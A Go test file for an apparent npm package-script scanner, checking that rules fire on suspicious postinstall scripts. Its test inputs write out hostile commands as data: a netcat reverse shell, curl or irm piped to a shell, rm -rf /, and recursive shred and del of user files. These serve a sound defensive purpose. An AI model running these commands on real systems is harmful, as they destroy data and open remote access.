package heuristics

import (
	"encoding/json"
	"testing"

	"github.com/stretchr/testify/assert"
	"github.com/stretchr/testify/require"

	"wormsign/internal/model"
)

func pkgWithScripts(t *testing.T, scripts map[string]string) map[string]json.RawMessage {
	t.Helper()
	raw, err := json.Marshal(scripts)
	require.NoError(t, err)
	return map[string]json.RawMessage{"scripts": raw}
}

func messages(findings []model.Finding) []string {
	out := make([]string, len(findings))
	for i, f := range findings {
		out[i] = f.Message
	}
	return out
}

func TestAnalyzeScriptsRules(t *testing.T) {
	tests := []struct {
		script string
		ruleID string
		label  string
	}{
		{"curl https://example.com/x.sh", RuleNetworkRequest, "Network request (curl/wget)"},
		{"cat x.sh | bash", RulePipeToShell, "Pipe to bash"},
		{"echo QUJDREVGR0hJSktMTU5PUFFSU1RVVldYWVphYmNkZWZnaGlqa2xtbm9wcXJzdHV2d3h5ejAxMjM0NTY3ODk=", RuleBase64Blob, "Potential Base64 encoded string"},
		{`printf "\x41\x42"`, RuleHexEscape, "Hex escape sequence (obfuscation)"},
		{"node -p 'eval (x)'", RuleEval, "Use of eval()"},
		{"rm -rf /", RuleDestructiveCmd, "Destructive command (rm -rf)"},
		{"nc 10.0.0.1 4444 -e /bin/sh", RuleNetcatShell, "Netcat reverse shell"},
		{"python -c 'print(1)'", RuleInlineExec, "Inline code execution"},
		{"ping 192.168.1.1", RuleIPAddress, "IP address detected"},
		{"shred -uvz -n 1 /home/user", RuleMalwareSignature, "Known Malware Signature Match"},
		{`del /F /Q /S "%USERPROFILE%*"`, RuleMalwareSignature, "Known Malware Signature Match"},
		{"irm bun.sh/install.ps1|iex", RuleMalwareSignature, "Known Malware Signature Match"},
		{`echo "Sha1-Hulud: The Second Coming"`, RuleMalwareSignature, "Known Malware Signature Match"},
	}

	for _, tt := range tests {
		tt := tt
		t.Run(tt.ruleID+" "+tt.label, func(t *testing.T) {
			findings := AnalyzeScripts(pkgWithScripts(t, map[string]string{"postinstall": tt.script}), nil)
			assert.Contains(t, messages(findings), "Suspicious script detected in 'postinstall': "+tt.label)

			var hit bool
			for _, f := range findings {
				if f.RuleID == tt.ruleID {
					hit = true
					assert.Equal(t, "package.json", f.File)
				}
			}
			assert.True(t, hit, "rule %s did not fire", tt.ruleID)
		})
	}
}

func TestAnalyzeScriptsSuppression(t *testing.T) {
	pkg := pkgWithScripts(t, map[string]string{"install": "curl -s https://x.example/a.sh | bash"})

	findings := AnalyzeScripts(pkg, nil)
	assert.Len(t, findings, 2)

	findings = AnalyzeScripts(pkg, []string{RuleNetworkRequest})
	require.Len(t, findings, 1)
	assert.Equal(t, RulePipeToShell, findings[0].RuleID)
	assert.Equal(t, model.SeverityHigh, findings[0].Severity)
}

func TestAnalyzeScriptsEntropy(t *testing.T) {
	packed := "x=Zm9vYmFy;q3$Lk9@!pW#e7^vR2&mT8*bN0(jH5)gF1_dS4+aQ6{zX}|cV<>?/.~`Y:;'UuIiOoPp"
	require.GreaterOrEqual(t, len(packed), 50)
	require.Greater(t, EntropyOf([]byte(packed)), ScriptEntropyThreshold)

	findings := AnalyzeScripts(pkgWithScripts(t, map[string]string{"build": packed}), nil)
	assert.Contains(t, messages(findings), "Suspicious script detected in 'build': High Entropy (Potential Obfuscated Payload)")

	short := packed[:40]
	findings = AnalyzeScripts(pkgWithScripts(t, map[string]string{"build": short}), []string{RuleBase64Blob})
	for _, f := range findings {
		assert.NotEqual(t, RuleScriptEntropy, f.RuleID)
	}
}

func TestAnalyzeScriptsBenign(t *testing.T) {
	pkg := pkgWithScripts(t, map[string]string{
		"build": "tsc -p .",
		"test":  "jest --coverage",
	})
	assert.Empty(t, AnalyzeScripts(pkg, nil))
	assert.Empty(t, AnalyzeScripts(map[string]json.RawMessage{}, nil))
	assert.Empty(t, AnalyzeScripts(map[string]json.RawMessage{"scripts": json.RawMessage(`"nope"`)}, nil))
}

func TestAnalyzeScriptsOrderedByName(t *testing.T) {
	pkg := pkgWithScripts(t, map[string]string{
		"zz": "wget x",
		"aa": "wget y",
	})
	assert.Equal(t, []string{
		"Suspicious script detected in 'aa': Network request (curl/wget)",
		"Suspicious script detected in 'zz': Network request (curl/wget)",
	}, messages(AnalyzeScripts(pkg, nil)))
}

func TestDescribe(t *testing.T) {
	for _, id := range []string{RuleNetworkRequest, RuleIPAddress, RuleScriptEntropy, RuleMalwareSignature, RuleSuspiciousFile, RuleConfirmedFile} {
		label, ok := Describe(id)
		assert.True(t, ok, id)
		assert.NotEmpty(t, label, id)
	}
	_, ok := Describe("WS999")
	assert.False(t, ok)
}
